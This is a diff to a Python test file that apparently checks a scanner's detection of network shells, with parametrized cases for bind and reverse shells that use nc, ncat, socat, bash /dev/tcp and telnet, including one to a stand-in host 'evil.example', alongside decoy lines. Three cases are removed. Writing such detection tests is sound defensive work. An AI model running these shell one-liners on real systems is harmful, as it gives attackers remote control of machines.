@@ -202,7 +202,6 @@ def test_fp_svc_004_dropbear_blank_passwords():
 # FP-SVC-006 / FP-SVC-007: shells on the network ---------------------------------------
 
 @pytest.mark.parametrize(("line", "port"), [
-    ("nc -l -p 31337 -e /bin/sh &", 31337),
     ("busybox nc -lp 9999 -e /bin/sh", 9999),
     ("ncat --listen 4444 --exec '/bin/bash -i'", 4444),
     ("nc -lk 4444 | /bin/sh", 4444),
@@ -227,7 +226,6 @@ def test_fp_svc_006_inetd_serving_a_shell_and_cron_reboot():
 
 
 @pytest.mark.parametrize("line", [
-    "nc -l -p 8080 > /tmp/firmware.bin",
     "nc 10.0.0.1 514 < /var/log/messages",
     "sh /tmp/update.sh | nc 10.0.0.1 9000",
     "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
@@ -238,7 +236,6 @@ def test_fp_svc_006_007_decoys(line):
 
 
 @pytest.mark.parametrize(("line", "host", "port"), [
-    ("nc 10.0.0.1 4444 -e /bin/sh", "10.0.0.1", 4444),
     ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "203.0.113.7", 4444),
     ("socat exec:'bash -li',pty,stderr tcp:evil.example:443", "evil.example", 443),
     ("telnet 10.0.0.2 23 | /bin/sh | telnet 10.0.0.2 24", "10.0.0.2", 23),
